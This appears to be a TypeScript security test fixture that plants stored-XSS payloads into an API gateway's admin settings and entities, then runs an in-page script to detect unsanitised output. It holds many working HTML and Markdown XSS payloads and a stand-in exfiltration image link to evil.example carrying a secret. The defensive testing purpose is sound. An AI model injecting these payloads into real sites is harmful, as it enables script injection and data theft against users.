/** Hostile text, the places it can be put into, and what it must not become. */
import type { TestGateway } from '../../kit/gateway.js'

/** Short enough for every name. */
export const mean = '"><img src=//evil.example/x onerror=alert(1)>'

const meanHtml = `
  <p onclick="alert(1)" style="position:fixed;inset:0">Hello</p><script>alert(1)</script>
  <img src="https://evil.example/a.png" onerror="alert(1)"><img src="/\\evil.example/b.png">
  <iframe src="https://evil.example"></iframe><object data="https://evil.example"></object>
  <svg onload="alert(1)"><a href="javascript:alert(1)">a</a></svg>
  <math><mi xlink:href="javascript:alert(1)">x</mi></math>
  <a href="javascript:alert(1)">b</a><a href=" java\tscript:alert(1)">c</a>
  <a href="//evil.example" ping="https://evil.example">d</a>
  <form action="https://evil.example"><input autofocus onfocus="alert(1)"></form>
  <style>* { background: url(https://evil.example/c) }</style><base href="https://evil.example/">
  <meta http-equiv="refresh" content="0;url=https://evil.example">
  <link rel="stylesheet" href="https://evil.example/d.css"><video src="https://evil.example/e"></video>
  <template><img src="https://evil.example/f" onerror="alert(1)"></template>
  <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`

export const meanMarkdown = `# Hello

<script>alert(1)</script> <img src=https://evil.example/g onerror=alert(1)>

[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#10;script:alert(1)) [d](vbscript:x)
[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [f][] <javascript:alert(1)>
![secret](https://evil.example/h?key=secret) ![i](//evil.example/i) ![j](data:image/svg+xml;base64,PHN2Zy8+)
![k][] [![l](https://evil.example/l)](https://evil.example/m)

[f]: javascript:alert(1)
[k]: https://evil.example/k "\\"><img src=x onerror=alert(1)>"

\`\`\`"><img/src=x/onerror=alert(1)>
</code></pre><img src=x onerror=alert(1)>
\`\`\`

\`\`\`mermaid
graph TD; A["<img src=x onerror=alert(1)>"] --> B; click A "javascript:alert(1)"
\`\`\`

| <b onclick=alert(1)>x</b> | ![n](https://evil.example/n) |
| --- | --- |
| <svg/onload=alert(1)> | [o](javascript:alert(1)) |`

/** What stands in a page and should not, wherever it came from. To be run in the page. */
export const harmDone = `(() => {
  const found = [...document.querySelectorAll(
    'iframe, object, embed, base, math, video, audio, template, form[action], meta[http-equiv], ' +
    ':not(body) > noscript, script:not([src^="/assets/"])'
  )]
  const ours = (one, name, also) => {
    const { protocol, origin } = new URL(one.getAttribute(name), location.href)
    return origin === location.origin || also.test(protocol)
  }
  for (const one of document.querySelectorAll('*')) {
    const names = one.getAttributeNames()
    if (names.some((name) => /^on|^(?:srcdoc|ping|formaction)$/.test(name))) found.push(one)
    if (names.some((name) => /href$/.test(name)) && one.localName !== 'link') {
      for (const name of names.filter((name) => /href$/.test(name))) {
        if (!ours(one, name, /^(?:https?|mailto):$/)) found.push(one)
      }
    }
    if (names.includes('src') && !ours(one, 'src', /^(?:data|blob):$/)) found.push(one)
  }
  const { length } = document.documentElement.outerHTML
  const long = length > 3e6 ? ['a page of ' + length + ' characters'] : []
  return [...long, ...found.map((one) => one.outerHTML.slice(0, 160))]
})()`

const password = 'a long password here'

/** Hostile text wherever the API takes any. Pages: of single things, which no menu names. */
export async function plant({ admin }: TestGateway, upstream: string) {
  await admin.must('PUT', '/api/group/', { name: mean, ratio: 1, desc: mean, usable: true })
  const groups = { default: 'Usual', [mean]: mean }
  await admin.option('UserUsableGroups', groups)
  await admin.option('ModelRatio', { plain: 1, [mean]: 1 })
  const vendor = await admin.must('POST', '/api/vendors/', {
    ...{ name: mean, description: mean, icon: '/\\evil.example/v.png' },
  })
  await admin.must('POST', '/api/models/', {
    ...{ model_name: mean, description: meanMarkdown, tags: mean, vendor_id: vendor.id },
    icon: 'javascript:alert(1)',
  })
  const channel = await admin.channel({
    ...{
      type: 1,
      name: mean,
      key: mean,
      base_url: upstream,
      models: `plain,${mean}`,
      group: `default,${mean}`,
    },
    ...{ tag: mean, remark: mean },
  })
  await admin.must('POST', '/api/prefill_group/', {
    ...{ name: mean, type: 'model', items: [mean], description: mean },
  })
  await admin.must('POST', '/api/auto_route/', {
    ...{ key: 'mean', display_name: mean, groups: [mean], user_groups: [], enabled: true },
  })
  const provider = await admin.must('POST', '/api/custom-oauth-provider/', {
    ...{ name: mean, slug: 'mean', icon: 'javascript:alert(1)', enabled: true },
    ...{ client_id: mean, client_secret: 'x' },
    authorization_endpoint: 'https://evil.example/authorize',
    token_endpoint: 'https://evil.example/token',
    user_info_endpoint: 'https://evil.example/user',
  })
  const ada = { username: 'ada', password }
  const { id } = await admin.must('POST', '/api/user/', { ...ada, display_name: mean })
  await admin.must('PUT', '/api/user/', { id, remark: mean })
  const token = await admin.token({ name: mean, group: mean })
  for (const [key, value] of Object.entries(texts)) await admin.option(key, value)
  const pages = [
    `/channels/${channel}`,
    `/channels/${channel}/settings`,
    `/users/${id}`,
    `/custom-oauth/${provider.id}`,
    `/tokens/${token.id}`,
    `/tokens/${token.id}/edit`,
    ...['/channels/new', '/tokens/new', '/vendors'],
  ]
  return { ada, pages }
}

const texts: Readonly<Record<string, unknown>> = {
  SystemName: mean,
  Logo: '/\\evil.example/logo.png',
  Footer: meanHtml,
  Notice: meanMarkdown,
  About: meanHtml,
  HomePageContent: meanHtml,
  'legal.user_agreement': `${meanMarkdown}\n\n${'[p] '.repeat(1_000)}\n\n[p]: https://evil.example/${'p'.repeat(20_000)}`,
  'legal.privacy_policy': meanHtml,
  TopUpLink: 'javascript:alert(1)',
  'general_setting.docs_link': 'javascript:alert(1)',
  'general_setting.custom_currency_symbol': mean,
  'general_setting.quota_display_type': 'CUSTOM',
  Chats: [{ [mean]: 'javascript:alert("{key}")' }, { mean: 'https://evil.example/{key}' }],
  'console_setting.announcements': [
    { content: meanMarkdown, extra: mean, type: 'error', publishDate: '2026-01-01T00:00:00Z' },
  ],
  'console_setting.faq': [{ question: mean, answer: meanMarkdown }],
  'console_setting.api_info': [
    { url: 'https://evil.example/', route: mean, description: mean, color: 'red' },
  ],
}
